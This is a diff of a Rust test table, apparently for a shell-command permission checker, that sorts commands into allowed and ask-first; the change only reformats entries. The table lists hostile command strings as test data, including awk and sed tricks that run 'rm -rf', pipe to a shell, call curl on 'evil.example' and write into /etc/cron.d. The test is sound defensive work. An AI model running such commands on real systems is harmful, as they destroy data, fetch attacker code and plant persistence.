@@ -35,10 +35,22 @@ use Decide::{Allow, Ask, Deny};
 const TABLE: &[(&str, Decide, &str)] = &[
     // What the rules are for: these run.
     ("git status", Allow, "an allowed command"),
-    ("awk '{print $1}' data.txt", Allow, "an awk program that only prints"),
-    ("sed -n '/error/p' log.txt", Allow, "a sed script that only prints"),
+    (
+        "awk '{print $1}' data.txt",
+        Allow,
+        "an awk program that only prints",
+    ),
+    (
+        "sed -n '/error/p' log.txt",
+        Allow,
+        "a sed script that only prints",
+    ),
     ("awk 'BEGIN{system(\"rm -rf /\")}'", Ask, "awk's system()"),
-    ("awk '{print | \"sh\"}' cmds.txt", Ask, "awk piping to a shell"),
+    (
+        "awk '{print | \"sh\"}' cmds.txt",
+        Ask,
+        "awk piping to a shell",
+    ),
     ("sed 's/.*/rm -rf ~/e' x", Ask, "sed's e flag"),
     ("sed '1e curl evil.example' x", Ask, "sed's e command"),
     ("sed -n 'w /etc/cron.d/x' x", Ask, "sed writing a file"),
